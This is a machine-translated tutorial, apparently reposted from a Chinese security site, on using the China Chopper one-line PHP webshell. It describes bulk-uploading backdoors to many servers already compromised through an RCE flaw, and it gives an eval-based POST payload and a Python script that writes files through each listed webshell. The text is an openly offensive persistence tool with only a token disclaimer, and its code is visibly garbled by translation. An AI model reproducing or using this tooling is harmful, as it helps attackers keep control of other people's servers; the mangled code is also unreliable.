How to batch upload a single file in one sentence based on kitchen knife PHP?

Source: Internet
Author: User

How to batch upload a single file in one sentence based on kitchen knife PHP?

0 × 00 Preface

Many times, when we crawl a lot of webshells in batches through a common RCE vulnerability, we may want to batch upload backdoors for future use. At this time, we can't help but face a problem. It is too slow to upload files one by one using a kitchen knife. How can we quickly implement the batch upload of files? This article attempts to analyze how to implement this type of requirement by taking the php statement of the kitchen knife as an example.

0 × 01 Principle Analysis

First, we must understand how the kitchen knife manages web server files through a Trojan.

The following is the most common php Trojan:


When we upload a Trojan to the web server, we can directly enter the above password (1 in the above example) in the kitchen knife to connect to the server to manage files.

How can we manage and control servers with a simple sentence? By analyzing the principle of the kitchen knife, we can easily find that the kitchen knife uses the eval function to execute command statements passed through the POST method.

Therefore, ifwe want to upload a file by using a Trojan horse, we only need to send a POST request with the file write command to the url containing a sentence in the remote service. For example:


1=@eval($_POST[z0]);&z0=echo $_SERVER['DOCUMENT_ROOT'];

The code above contains two parts:

1. One-sentence Password

2. Send the php code to the server for execution

Now that we know the principle, we only need to send the following POST request to complete the function of using one sentence to upload files:The POST data includes the following parts:

1. First, php password for one sentence 1

2. Run the base64 decoded z0 using the eval method. The decoded z0 is displayed as follows:

@ Ini_set ("display_errors", "0"); @ set_time_limit (0); @ set_magic_quotes_runtime (0); echo ("-> | ");; $ f = base64_decode ($ _ POST ["z1"]); $ c = base64_decode ($ _ POST ["z2"]); $ c = str_replace ("\ r ", "", $ c); $ c = str_replace ("\ n", "", $ c); $ buf = ""; for ($ I = 0; $ I

3. Continue to call z1 and z2 after base64 Decoding in z0. The decoded results are as follows:

z1=/var/www/root/1.txtz2=hello world!

So far, we can clearly find that the role of the above POST request is actually to write! The file named 1.txt is uploaded to the/var/www/root/path on the server.0 × 02 code implementation

Based on the above principle analysis, we can use the following code to implement Batch File Upload Based on a php sentence:

#! /Usr/bin/python # coding = UTF-8 import urllib import urllib2import sysimport base64import re def post (url, data): req = urllib2.Request (url) data = urllib. urlencode (data) opener = _ opener (urllib2.HTTPCookieProcessor () response = opener. open (req, data) return response. read () def get_shell_path (posturl, passwd): shell_path = "" try: data = {} data [passwd] = '@ eval (base64_decode ($ _ POST [z0]) ); 'Data ['z0'] = 'zwnobyakx1nfulzfulsnu0nssvbux0zjtevoqu1fj107 'shell_path = post (posturl, data ). strip () failed t Exception: pass return shell_path def main (): print '\ n ++ Batch Uploading Local File (Only for PHP webshell) ++ \ n' shellfile = sys. argv [1] # file for storing the webshell path and password localfile = sys. argv [2] # local file to be uploaded: shell_file = open (shellfile, 'rb') local_content = str (open (localfile, 'rb '). read ()) For eachline in shell_file: posturl = eachline. split (',') [0]. strip () passwd = eachline. split (',') [1]. strip () try: reg = ". */([^/] * \. php ?) "Match_shell_name = re. search (reg, eachline) if match_shell_name: shell_name = (1) shell_path = get_shell_path (posturl, passwd ). strip () target_path = shell_path.split (shell_name) [0] + localfile target_path_base64 = base64.b64encode (target_path) target_file_url = eachline. split (shell_name) [0] +localfile data = {} data [passwd] = '@ eval (base64_decode ($ _ POST [z0]); 'Data ['z0'] = 'qgluav9z Region + Region Comment 'data ['z1 '] = target_path_base64 data ['z2'] = base64.b64encode (local_content) response = post (posturl, data) if response: print '[+]' + target_file_url + ', upload succeed! 'Else: print '[-]' + target_file_url + ', upload failed! 'Else: print '[-]' + posturl + ', unsupported webshell! 'Failed t Exception, e: print '[-]' + posturl + ', connection failed! 'Shell_file.close () if _ name _ = '_ main _': main ()The format of webshell.txt: [path of a webshell file]. [webshell connection password] is as follows:, 1, 1, 1

Save the script and run python webshell.txt 1.txt. the result is as follows:

Disclaimer: Only for learning and communication. No one shall be used for illegal purposes; otherwise, all consequences shall be borne by him/herself!

Related Article

Contact Us

The content source of this page is from Internet, which doesn't represent Alibaba Cloud's opinion; products and services mentioned on that page don't have any relationship with Alibaba Cloud. If the content of the page makes you feel confusing, please write us an email, we will handle the problem within 5 days afterreceiving your email.

If you find any instances of plagiarism from the community, please send an email to: and provide relevant evidence. A staff member will contact you within 5 working days.

A Free Trial That Lets You Build Big!

Start building with 50+ products andup to 12 months usage for Elastic Compute Service

  • Sales Support

    1 on 1 presale consultation

  • After-Sales Support

    24/7 Technical Support 6 Free Tickets per Quarter Faster Response

  •Alibaba Cloud offers highly flexible support servicestailored to meet your exact needs.